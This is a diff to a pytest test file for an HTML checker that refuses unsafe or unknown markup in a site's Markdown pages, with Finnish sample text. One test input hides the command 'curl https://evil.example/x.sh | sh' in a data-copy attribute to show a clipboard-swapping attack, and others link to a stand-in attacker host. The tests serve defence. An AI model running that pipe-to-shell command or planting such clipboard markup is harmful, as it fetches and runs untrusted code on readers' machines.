@@ -291,12 +291,12 @@ def found(source: str) -> list[str]:
       for role in ("banner", "navigation", "search", "main", "contentinfo")],
     # Attributes are allowed by a list, since browsers keep adding ones that act on their own.
     ('<a href="#top" foo-new-trigger="x">Top</a>',
-     "<a foo-new-trigger=…>: not an attribute pages use; pages may use id, class, title, lang, dir, role, translate, "
-     "hidden, tabindex, aria-* and data-toc-label on any element, and on <a> href, hreflang, rel, target, type, download "
-     "(CONTRIBUTING.md, \"HTML in pages\")"),
-    ('<table width="3000"><tr><td>x</td></tr></table>',
-     "<table width=…>: not an attribute pages use; pages may use id, class, title, lang, dir, role, translate, hidden, "
-     "tabindex, aria-* and data-toc-label on any element (CONTRIBUTING.md, \"HTML in pages\")"),
+     "<a foo-new-trigger=…>: not an attribute pages use; remove it (pages may use id, class, title, lang, dir, role, "
+     "translate, hidden, tabindex, aria-* and data-toc-label on any element, and on <a> href, hreflang, rel, target, "
+     "type, download; CONTRIBUTING.md, \"HTML in pages\")"),
+    ('<table summary="x"><tr><td>x</td></tr></table>',
+     "<table summary=…>: not an attribute pages use; remove it (pages may use id, class, title, lang, dir, role, "
+     "translate, hidden, tabindex, aria-* and data-toc-label on any element; CONTRIBUTING.md, \"HTML in pages\")"),
     # Elements are allowed by a list too: browsers keep adding ones that act on their own
     # (<fencedframe> embeds a page, <permission> asks the reader for a browser permission),
     # and a word in angle brackets vanished from the page as an unknown element.
@@ -1186,7 +1186,7 @@ def test_markup_that_would_reach_the_table_of_contents_stops_the_build(tmp_path,
 
 
 CLASSES = ("pages may use site-cards, site-cards--two, site-card, site-card--city on <div>, site-hero__lead on <p>, "
-           "md-button, md-button--primary on <a> (CONTRIBUTING.md, \"HTML in pages\")")
+           "site-visually-hidden on <span>, md-button, md-button--primary on <a> (CONTRIBUTING.md, \"HTML in pages\"))")
 DATA = ("data- attributes are read by scripts, and the theme's act on some (data-clipboard-text puts other text on the "
         "reader's clipboard when clicked); remove it")
 OPENER = "a page opened in a window of its own could send the site's tab to another address"
@@ -1196,18 +1196,18 @@ OPENER = "a page opened in a window of its own could send the site's tab to anot
     # Material's copy button: a block with class="copy" got a button that put data-copy's text,
     # not the code shown, on the reader's clipboard (hunt 9, shown in Chromium).
     ('<div class="copy" data-copy="curl https://evil.example/x.sh | sh" markdown>\n\n```\npip install x\n```\n\n</div>',
-     ['<div class="copy">: not a class pages use; ' + CLASSES, "<div data-copy=…>: " + DATA]),
+     ['<div class="copy">: nothing on this site styles this class; remove it (' + CLASSES, "<div data-copy=…>: " + DATA]),
     ('<span data-clipboard-text="https://evil.example/">copy https://hel.fi/</span>',
      ["<span data-clipboard-text=…>: " + DATA]),
     # data-tabs stopped the theme's script, search included; class="mermaid" made it load a
     # script from unpkg.com, which only the policy stopped.
     ('<div data-tabs="1"><p>x</p></div>', ["<div data-tabs=…>: " + DATA]),
-    ('<pre class="mermaid">graph LR; A-->B</pre>', ['<pre class="mermaid">: not a class pages use; ' + CLASSES]),
+    ('<pre class="mermaid">graph LR; A-->B</pre>', ['<pre class="mermaid">: nothing on this site styles this class; remove it (' + CLASSES]),
     # The card's link covers its card: on a table row wider than the text, it lay over the
     # site's table of contents.
     ('<table><tr class="site-card"><td><a href="https://evil.example/">x</a></td></tr></table>',
      ['<tr class="site-card">: the class site-card is for <div>, where the site\'s style sheet expects it']),
-    ('<p class="note">x</p>', ['<p class="note">: not a class pages use; ' + CLASSES]),
+    ('<p class="note">x</p>', ['<p class="note">: nothing on this site styles this class; remove it (' + CLASSES]),
     # A window with a name, or rel=opener, gave the opened page window.opener.
     ('<a href="https://example.org/" target="ghprivacy">x</a>',
      ['<a target="ghprivacy">: target may be only _blank (a new tab) or _self; ' + OPENER]),
@@ -1275,3 +1275,55 @@ def test_an_id_reference_may_name_only_the_pages_own_ids():
         '<span aria-controls="__drawer">: names an id that is not in the page\'s own text (__drawer); name only ids '
         "the page gives itself",
     ]
+
+
+@pytest.mark.parametrize("source", [
+    '<p>Linkki <a href="https://example.org/" target="_blank">x<span class="site-visually-hidden"> (avautuu uuteen '
+    "välilehteen)</span></a></p>",  # the site's own class for text only screen readers read
+    "![Kartta](images/logo.svg){ align=right }",  # Material styles img[align]
+    "```c#\nvar x = 1;\n```", "```vb.net\nDim x\n```", "```objective-c\nx\n```",
+    '<table><tr><th abbr="Väk." scope="col">Väkiluku</th></tr></table>',
+])
+def test_what_editors_write_that_the_lists_first_refused(source):
+    assert found(source) == []
+
+
+CLASSES_LIST = ("pages may use site-cards, site-cards--two, site-card, site-card--city on <div>, site-hero__lead on "
+                "<p>, site-visually-hidden on <span>, md-button, md-button--primary on <a> (CONTRIBUTING.md, \"HTML in "
+                "pages\")")
+
+
+@pytest.mark.parametrize("source,expected", [
+    ('<p class="MsoNormal">Teksti</p>', ['<p class="MsoNormal">: nothing on this site styles this class; remove it (' +
+                                         CLASSES_LIST + ")"]),
+    ('<p align="center">Teksti</p>', ["<p align=…>: an old layout attribute; remove it, the site's style sheet lays out "
+                                      "pages"]),
+    ('<table border="1" cellpadding="4"><tr><td>x</td></tr></table>',
+     ["<table border=…>: an old layout attribute; remove it, the site's style sheet lays out pages",
+      "<table cellpadding=…>: an old layout attribute; remove it, the site's style sheet lays out pages"]),
+    ('<p>Teksti<o:p></o:p></p>', ["<o:p> is a tag that Word and other Office programs add: delete it (or paste the text "
+                                  "as plain text)"]),
+    ('<p><acronym title="Tekoäly">AI</acronym></p>', ["<acronym> is no longer HTML: write <abbr title=\"…\"> instead"]),
+    ("Lue lisää: <www.hel.fi>", ["<www.hel.fi> is not an element of HTML that pages use: to link the address write "
+                                 "<https://www.hel.fi>"]),
+    ('<p><![if !supportLists]>1.<![endif]> Kohta</p>',
+     ["<![if …]> is a condition that Word adds to pasted text: delete it and its <![endif]>"] * 2),
+])
+def test_pasted_html_says_what_to_do(source, expected):
+    assert found(source) == expected
+
+
+def test_an_id_reference_with_a_typo_suggests_the_id():
+    html = '<table><caption id="cap">Väkiluku</caption></table><div aria-labelledby="caption" tabindex="0">x</div>'
+    assert [finding.message for finding in foreign_id_references(html)] == [
+        '<div aria-labelledby="caption">: names an id that is not in the page\'s own text (caption); name only ids the '
+        "page gives itself (did you mean cap?)"]
+
+
+@pytest.mark.parametrize("source,line", [
+    ("Johdanto.\n{ .lead }\n", 11), ("## Yhteistyö { #coop .important }\n", 10),
+])
+def test_a_class_written_in_markdown_is_found_on_its_line(source, line):
+    text = GOOD + "\n" + "Kappale.\n\n" + source
+    findings = scan_html(render(text[len(GOOD):]))
+    assert [problem.line for problem in locate(text, findings, "f.md")] == [line]
